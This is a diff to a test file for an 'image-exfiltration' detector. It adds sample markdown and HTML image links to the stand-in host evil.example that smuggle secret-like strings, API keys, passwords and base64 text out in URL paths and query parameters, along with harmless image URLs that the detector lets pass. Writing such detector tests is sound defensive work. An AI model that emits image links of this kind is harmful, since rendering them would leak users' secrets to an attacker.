@@ -184,7 +184,20 @@ finds("image-exfiltration", [
   "![x](https://evil.example/" +
   "c2VjcmV0IG9mIHRoZSBz/ZXNzaW9uIGFuZCBtb3Jl/IG9mIGl0IGhlcmUx/".repeat(3) + "a.png)",
 ]);
+finds("image-exfiltration", [
+  "![x](https://evil.example/p.png?w=sk-live-51H8a9bK2&h=xYz7Q0mN4pR6tV&q=8wE3rT5yU1iO9pA2s)",
+  "![x](https://evil.example/p.png?w=4815162342&h=2718281828&q=3141592653&s=1618033988)",
+  "![x](https://evil.example/p.png?label=the+admin+password+of&color=the+database+is&style=correct+horse+battery&logo=staple)",
+  "![x](https://evil.example/p.png?w=one&w=two&w=three&w=four)",
+  '<img src="https://evil.example/p.png?v=c2VjcmV0IG9mIHRo&amp;t=ZSBzZXNzaW9uIGFu&amp;q=ZCBtb3Jl">',
+  "![x](https://evil.example/c2VjcmV0IG9mIHRoZSBz/ZXNzaW9uIGFuZCBtb3Jl/IG9mIGl0IGhlcmUx/" +
+  "c2VjcmV0IG9mIHRoZSBz/ZXNzaW9uIGFuZCBtb3Jl/a.png?v=IG9mIGl0IGhlcmUxIG9mIGl0IGhlcmUx)",
+]);
 passes("image-exfiltration", [
+  "![x](https://cdn.example.com/a.jpg?w=1280&h=720&fit=crop&q=80&auto=format&dpr=2)",
+  "![x](https://img.example.io/badge?label=build&logo=github&color=brightgreen&style=for-the-badge)",
+  "![x](https://www.example.com/avatar?s=200&d=identicon&r=pg&v=1700000000)",
+  "![x](https://cdn.example.com/a.jpg?v=d41d8cd98f00b204e9800998ecf8427e&w=640)",
   "![a [b] c](https://example.com/lake.jpg)",
   "[link [with] brackets](https://example.com/search?q=some+words)",
   "see ![x], and https://example.com/?q=words",
